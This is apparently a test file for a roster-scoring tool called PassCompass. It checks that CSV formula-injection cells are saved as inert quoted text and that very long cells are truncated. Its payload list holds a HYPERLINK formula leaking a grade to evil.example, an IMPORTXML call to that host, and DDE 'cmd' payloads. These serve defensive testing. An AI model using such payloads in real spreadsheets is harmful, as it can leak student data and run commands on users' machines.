/**
 * Formula injection through the offline runner: CSV cells that a spreadsheet would run (`=HYPERLINK(...)`,
 * `=IMPORTXML(...)`, DDE payloads, `+`/`-` expressions) arrive as the text typed, Check data quotes them as
 * typed, and the saved workbook holds no formula at all: every such text is a string with a quote prefix.
 * Also the 50,000-character limit: a Data issues cell quoting a cell that long is cut, never a crash.
 */
import { readdirSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { LocalSpreadsheet } from '../../src/local/spreadsheet';
import { csvText, expectCellsKept, fingerprint, imported, oddRoster } from './roster-text';
import {
  type CliRun,
  passcompass,
  readWorkbook,
  removeScratchFolders,
  scratchFolder,
  valuesOf,
} from './support';
import { type InspectedWorkbook, inspectXlsx, liveOrUnprefixed } from './xlsx-inspect';

afterAll(removeScratchFolders);

// Columns of the odd roster: A Student name, B Tutor group, C Grade 1, D Grade 2, F Absence count, G Health status.
const PAYLOADS: [row: number, column: number, text: string][] = [
  [2, 0, '=HYPERLINK("http://evil.example/?leak="&C2,"Open your grades")'],
  [2, 2, '=IMPORTXML("http://evil.example/","//a")'],
  [3, 5, "=cmd|' /C calc'!A0"],
  [3, 1, "@SUM(1+1)*cmd|' /C calc'!A0"],
  [4, 3, '+1+1'],
  [4, 6, '-2+3'],
  [5, 1, '\t=1+1'],
  [6, 1, '\r=1+1'],
  [7, 0, 'Costa, Eva\u0000 7'],
];

describe('passcompass run on a CSV roster holding formula payloads', () => {
  let dir: string;
  let cells: string[][];
  let before: ReturnType<typeof fingerprint>;
  let run: CliRun;
  let saved: LocalSpreadsheet;
  let workbook: InspectedWorkbook;
  beforeAll(async () => {
    dir = scratchFolder();
    cells = oddRoster();
    for (const [row, column, text] of PAYLOADS) (cells[row - 1] as string[])[column] = text;
    writeFileSync(join(dir, 'payloads.csv'), csvText(cells));
    before = fingerprint(join(dir, 'payloads.csv'));
    run = await passcompass(['run', '--in', 'payloads.csv', '--out', 'scored.xlsx'], dir);
    saved = await readWorkbook(join(dir, 'scored.xlsx'));
    workbook = await inspectXlsx(await readFile(join(dir, 'scored.xlsx')));
  });

  it('runs to the end and says which cells it kept as text', () => {
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(run.stdout).toContain(
      'payloads.csv: 5 cells would be a formula in a spreadsheet (A2, C2, F3, D4, G4); PassCompass keeps them ' +
        'as the text typed and never runs them.',
    );
  });

  it('keeps every cell of the roster as typed, NUL included', () => {
    expectCellsKept(valuesOf(saved, 'Students'), imported(cells));
    expect(saved.getSheetByName('Students')!.getRange('A2:G7').getFormulas().flat().join('')).toBe('');
  });

  it('quotes the payloads in model columns as typed in Data issues, never an error value', () => {
    const issues = (valuesOf(saved, 'Data issues') ?? []).map((row) => row.slice(0, 4));
    expect(issues).toEqual(
      expect.arrayContaining([
        [2, 'Grade 1 (C)', '=IMPORTXML("http://evil.example/","//a")', 'is not a number'],
        [3, 'Absence count (F)', "=cmd|' /C calc'!A0", 'is not a number'],
        [4, 'Grade 2 (D)', '+1+1', 'is not a number'],
        [4, 'Health status (G)', '-2+3', 'is not a number'],
      ]),
    );
    expect(issues.flat().filter((value) => /^#(NAME\?|ERROR!)$/.test(String(value)))).toEqual([]);
  });

  it('saves no formula anywhere, and every formula-like text with a quote prefix', () => {
    expect(workbook.cells.filter((cell) => cell.formula !== null)).toEqual([]);
    expect(liveOrUnprefixed(workbook)).toEqual([]);
    const payloadCells = workbook.cells.filter(
      (cell) => cell.sheet === 'Students' && PAYLOADS.some(([, , text]) => text === cell.value),
    );
    expect(payloadCells).toHaveLength(PAYLOADS.length);
    expect(
      payloadCells.filter((cell) => cell.value !== 'Costa, Eva\u0000 7').every((cell) => cell.quotePrefix),
    ).toBe(true);
    const quotedIssues = workbook.cells.filter((c) => c.sheet === 'Data issues' && c.value?.startsWith('='));
    expect(quotedIssues.length).toBeGreaterThanOrEqual(2);
    expect(quotedIssues.every((cell) => cell.quotePrefix && cell.type === 's')).toBe(true);
  });

  it('leaves the input file as it was', () => {
    expect(fingerprint(join(dir, 'payloads.csv'))).toEqual(before);
    expect(readdirSync(dir).sort()).toEqual(['payloads.csv', 'scored.xlsx']);
  });
});

describe('passcompass run on a CSV roster with cells of 50,000 characters', () => {
  it('quotes them cut in Data issues, keeps them whole in Students, and finishes', async () => {
    const dir = scratchFolder();
    const cells = oddRoster();
    const at = `@${'x'.repeat(49_999)}`;
    const equals = `=${'y'.repeat(49_999)}`;
    (cells[1] as string[])[2] = at;
    (cells[2] as string[])[2] = equals;
    writeFileSync(join(dir, 'long.csv'), csvText(cells));
    const before = fingerprint(join(dir, 'long.csv'));
    const run = await passcompass(['run', '--in', 'long.csv', '--out', 'scored.xlsx'], dir);

    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    const saved = await readWorkbook(join(dir, 'scored.xlsx'));
    expect(saved.getSheetByName('Students')!.getRange('C2:C3').getValues()).toEqual([[at], [equals]]);
    const issues = (valuesOf(saved, 'Data issues') ?? []).filter((row) => row[1] === 'Grade 1 (C)');
    const cut = ' (value shown cut to 1,000 of its 50,000 characters)';
    expect(issues.slice(0, 2).map((row) => row.slice(0, 4))).toEqual([
      [2, 'Grade 1 (C)', `${at.slice(0, 1000)}…`, `is not a number${cut}`],
      [3, 'Grade 1 (C)', `${equals.slice(0, 1000)}…`, `is not a number${cut}`],
    ]);
    expect(liveOrUnprefixed(await inspectXlsx(await readFile(join(dir, 'scored.xlsx'))))).toEqual([]);
    expect(fingerprint(join(dir, 'long.csv'))).toEqual(before);
  });
});
